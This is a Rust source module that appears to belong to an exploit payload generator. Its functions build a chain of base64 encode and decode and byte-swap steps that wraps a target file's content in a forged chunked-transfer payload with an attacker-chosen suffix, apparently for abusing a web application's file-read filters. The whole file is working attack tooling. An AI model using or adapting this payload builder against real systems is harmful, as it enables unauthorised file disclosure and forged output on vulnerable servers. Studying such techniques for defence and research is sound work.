//! Suffix injection: turn the file content into a forged chunked-transfer
//! payload and append SUFFIX as (part of) its forged trailer.

use crate::error::{ChainError, Result};
use crate::pipeline::catalogue::ALPHABET;
use crate::pipeline::primitives::{b64_encode, b64_encode_stripped, push_char, Pipeline, B64D, B64E, SWAP4};

/// Inject a 3-byte triplet (as a UCS-4LE code unit) at the front of the
/// stream: base64-encode it, push its 4 characters in reverse, decode, then
/// byte-swap the resulting 4-byte unit into little-endian order.
pub fn add3_swap(pipeline: &mut Pipeline, triplet: &[u8]) -> Result<()> {
    debug_assert_eq!(triplet.len(), 3, "add3_swap requires a 3-byte triplet");
    let b64 = b64_encode(triplet);
    debug_assert_eq!(b64.len(), 4, "base64 of a 3-byte triplet is always 4 chars");

    pipeline.push(B64E);
    push_char(pipeline, b64[3])?;
    push_char(pipeline, b64[2])?;
    push_char(pipeline, b64[1])?;
    push_char(pipeline, b64[0])?;
    pipeline.push(B64D);
    pipeline.push(SWAP4);
    Ok(())
}

/// Set the two least-significant bits of `chunk[2]` by shifting its base64
/// alphabet index by 3, so the byte that follows it is non-ASCII (and thus
/// non-base64): a later double-decode cleanly drops it.
///
/// Returns an error rather than wrapping when the shift would run past the
/// end of the 64-entry alphabet — see `DESIGN.md`'s Open Question notes.
fn set_lsbs(chunk: &mut [u8]) -> Result<()> {
    debug_assert_eq!(chunk.len(), 3);
    let tail = chunk[2];
    let index = ALPHABET
        .iter()
        .position(|&b| b == tail)
        .ok_or_else(|| ChainError::catalogue(tail))?;
    let shifted = index + 3;
    if shifted >= ALPHABET.len() {
        return Err(ChainError::unsupported_suffix_tail(tail));
    }
    chunk[2] = ALPHABET[shifted];
    Ok(())
}

/// Add the chunked-transfer terminator `\n0\n`, then inject SUFFIX (as
/// alternating-reversed 3-byte triplets) ahead of it.
pub fn add_suffix(pipeline: &mut Pipeline, suffix: &[u8]) -> Result<()> {
    add3_swap(pipeline, b"\n0\n")?;

    let suffix_b64 = b64_encode(suffix);
    debug_assert_eq!(
        suffix_b64.len() % 4,
        0,
        "base64 output length is always a multiple of 4, so chunks(2) never \
         leaves a trailing single-byte pair"
    );

    let mut reverse = false;
    for pair in suffix_b64.chunks(2).rev() {
        let mut chunk = b64_encode_stripped(pair);
        debug_assert_eq!(chunk.len(), 3, "base64 of a 2-byte pair, stripped, is 3 chars");
        set_lsbs(&mut chunk)?;
        if reverse {
            chunk.reverse();
        }
        add3_swap(pipeline, &chunk)?;
        reverse = !reverse;
    }
    Ok(())
}

/// Move the suffix "up" the stream by `nb_chunks * 4 + 2` triplets, so the
/// file content ends up positioned beneath it.
///
/// The triplet `\x08\x29\x02` is not arbitrary: it minimises the size of the
/// resulting payload (it base64-encodes to a short, artefact-free form).
pub fn pad_suffix(pipeline: &mut Pipeline, nb_chunks: usize) -> Result<()> {
    let times = nb_chunks * 4 + 2;
    for _ in 0..times {
        add3_swap(pipeline, b"\x08\x29\x02")?;
    }
    Ok(())
}
